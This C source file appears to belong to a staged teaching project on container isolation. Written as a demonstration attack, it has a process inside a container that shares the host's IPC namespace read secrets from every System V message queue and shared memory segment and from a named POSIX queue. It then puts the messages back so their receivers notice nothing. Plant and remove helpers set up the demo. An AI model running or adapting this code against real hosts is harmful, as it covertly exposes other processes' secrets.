/*
 * attack.c (02-uts) - read the secrets that host processes pass each other
 * through System V queues, System V shared memory and POSIX queues.
 *
 *     sudo build/attacks/attack-2 plant "my secret"      # on the host
 *     sudo ./stage-2 build/attacks/attack-2
 *     sudo build/attacks/attack-2 remove                 # on the host
 *
 * attack-2 [queue|memory|posix [NAME]]: one of the three; all without it.
 * NAME is that of the POSIX queue ("/toy-docker-secret"). Messages are put
 * back, so that their true receivers still get them.
 *
 * These objects belong to the IPC namespace, which stages 1 and 2 share with
 * the host. Stage 3 gives the container its own, which starts empty.
 *
 * Exit status: 0 it worked, 1 it was stopped, 2 it could not be tried.
 */
#include <errno.h>
#include <fcntl.h>
#include <mqueue.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ipc.h>
#include <sys/msg.h>
#include <sys/shm.h>

enum { WORKED, STOPPED, NOT_TRIED };
enum { KEY = 0x70d0c, SIZE = 4096 };

static const char default_name[] = "/toy-docker-secret";

struct message {
    long type;
    char text[SIZE];
};

/* Each of the kernel's queues, whoever made it: root may read them all. */
static int read_queues(void)
{
    struct msqid_ds status;
    struct msginfo info;
    int last = msgctl(0, MSG_INFO, (struct msqid_ds *)(void *)&info);
    int result = STOPPED;

    for (int i = 0; i <= last; i++) {
        struct message message;
        int id = msgctl(i, MSG_STAT, &status);
        ssize_t size;

        if (id == -1)
            continue;
        size = msgrcv(id, &message, SIZE, 0, IPC_NOWAIT | MSG_NOERROR);
        if (size == -1)
            continue;
        printf("System V queue %d: %.*s\n", id, (int)size, message.text);
        msgsnd(id, &message, (size_t)size, IPC_NOWAIT);
        result = WORKED;
    }
    if (result == STOPPED)
        printf("stopped: no System V queue with a message in sight\n");
    return result;
}

static int read_memory(void)
{
    struct shmid_ds status;
    struct shm_info info;
    int last = shmctl(0, SHM_INFO, (struct shmid_ds *)(void *)&info);
    int result = STOPPED;

    for (int i = 0; i <= last; i++) {
        int id = shmctl(i, SHM_STAT, &status);
        const char *memory;

        if (id == -1)
            continue;
        memory = shmat(id, NULL, SHM_RDONLY);
        if (memory == (const char *)-1)
            continue;
        printf("System V shared memory %d: %.*s\n", id,
               (int)strnlen(memory, status.shm_segsz), memory);
        shmdt(memory);
        result = WORKED;
    }
    if (result == STOPPED)
        printf("stopped: no System V shared memory in sight\n");
    return result;
}

static int read_posix(const char *name)
{
    struct mq_attr attributes;
    char *text;
    ssize_t size;
    unsigned priority;
    mqd_t queue = mq_open(name, O_RDWR | O_NONBLOCK);

    if (queue == (mqd_t)-1) {
        printf("stopped: mq_open %s: %s\n", name, strerror(errno));
        return errno == ENOSYS ? NOT_TRIED : STOPPED;
    }
    if (mq_getattr(queue, &attributes) == -1)
        return NOT_TRIED;
    text = malloc((size_t)attributes.mq_msgsize);
    if (!text)
        return NOT_TRIED;
    size = mq_receive(queue, text, (size_t)attributes.mq_msgsize, &priority);
    if (size >= 0) {
        printf("POSIX queue %s: %.*s\n", name, (int)size, text);
        mq_send(queue, text, (size_t)size, priority);
    }
    free(text);
    mq_close(queue);
    return size >= 0 ? WORKED : STOPPED;
}

/* The host's side of the demonstration. */
static int plant(const char *secret)
{
    struct mq_attr attributes = {.mq_maxmsg = 1, .mq_msgsize = SIZE};
    struct message message = {.type = 1};
    int queue = msgget(KEY, IPC_CREAT | 0600);
    int id = shmget(KEY, SIZE, IPC_CREAT | 0600);
    char *memory = id == -1 ? NULL : shmat(id, NULL, 0);
    mqd_t posix = mq_open(default_name, O_RDWR | O_CREAT, 0600, &attributes);

    snprintf(message.text, SIZE, "%s", secret);
    if (queue == -1 || !memory || memory == (char *)-1 || posix == (mqd_t)-1 ||
        msgsnd(queue, &message, strlen(message.text), IPC_NOWAIT) == -1 ||
        mq_send(posix, message.text, strlen(message.text), 0) == -1) {
        perror("plant");
        return NOT_TRIED;
    }
    snprintf(memory, SIZE, "%s", secret);
    printf("planted in a System V queue, in shared memory and in %s\n",
           default_name);
    return 0;
}

static int remove_planted(void)
{
    int queue = msgget(KEY, 0), memory = shmget(KEY, 0, 0);

    if (queue != -1)
        msgctl(queue, IPC_RMID, NULL);
    if (memory != -1)
        shmctl(memory, IPC_RMID, NULL);
    mq_unlink(default_name);
    return 0;
}

int main(int argc, char **argv)
{
    const char *what = argc > 1 ? argv[1] : "all";
    const char *name = argc > 2 ? argv[2] : default_name;
    int queue, memory, posix;

    if (strcmp(what, "plant") == 0 && argc > 2)
        return plant(argv[2]);
    if (strcmp(what, "remove") == 0)
        return remove_planted();
    if (strcmp(what, "queue") == 0)
        return read_queues();
    if (strcmp(what, "memory") == 0)
        return read_memory();
    if (strcmp(what, "posix") == 0)
        return read_posix(name);
    if (strcmp(what, "all") != 0) {
        fprintf(stderr, "usage: attack-2 [queue|memory|posix [NAME]]\n"
                        "       attack-2 plant SECRET | remove\n");
        return NOT_TRIED;
    }
    queue = read_queues();
    memory = read_memory();
    posix = read_posix(name);
    return queue && memory && posix ? STOPPED : WORKED;
}
